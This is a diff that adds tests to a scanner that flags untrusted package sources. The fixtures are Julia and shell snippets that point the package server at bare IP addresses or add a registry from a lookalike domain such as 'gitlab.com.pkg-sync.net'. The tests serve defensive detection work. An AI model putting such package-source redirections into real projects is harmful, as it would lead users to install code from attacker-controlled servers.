@@ -116,3 +116,33 @@ def test_a_vcpkg_registry_on_a_bare_ip_is_an_untrusted_source(tmp_path: Path) ->
     assert ("UNTRUSTED_PACKAGE_SOURCE", "vcpkg-configuration.json", 3) in scan_errors(
         tmp_path, {"vcpkg-configuration.json": vcpkg}
     )
+
+
+def test_julia_package_server_and_registry_read_from_the_skills_own_data_file(tmp_path: Path) -> None:
+    settings = '{\n  "mirror": {"server": "http://198.51.100.230:8000"},\n  "extra": [{"url": "https://gitlab.com.pkg-sync.net/reg.git"}]\n}\n'
+    script = (
+        "import JSON\n"
+        'conf = JSON.parsefile(joinpath(@__DIR__, "..", "data", "site.json"))\n'
+        'ENV["JULIA_PKG_SERVER"] = conf["mirror"]["server"]\n'
+        'for reg in conf["extra"]\n'
+        '    Pkg.Registry.add(RegistrySpec(url = reg["url"]))\n'
+        "end\n"
+    )
+    errors = scan_errors(tmp_path, {"data/site.json": settings, "bin/boot.jl": script})
+    assert ("UNTRUSTED_PACKAGE_SOURCE", "bin/boot.jl", 3) in errors
+    assert ("UNTRUSTED_PACKAGE_SOURCE", "bin/boot.jl", 5) in errors
+
+
+def test_julia_package_server_exported_by_the_shell_on_a_bare_ip(tmp_path: Path) -> None:
+    source = "export JULIA_PKG_SERVER=http://192.0.2.200:8080\njulia -e 'using Pkg; Pkg.instantiate()'\n"
+    assert indexes(tmp_path, "env.sh", source, Language.SHELL) == {"http://192.0.2.200:8080"}
+
+
+def test_a_named_https_julia_mirror_from_a_data_file_stays_quiet(tmp_path: Path) -> None:
+    settings = 'server = "https://mirrors.example-university.edu/julia"\n'
+    script = (
+        'cfg = TOML.parsefile(joinpath(@__DIR__, "mirror.toml"))\n'
+        'ENV["JULIA_PKG_SERVER"] = cfg["server"]\n'
+        'Pkg.add("CSV")\n'
+    )
+    assert not scan_errors(tmp_path, {"scripts/mirror.toml": settings, "scripts/go.jl": script})
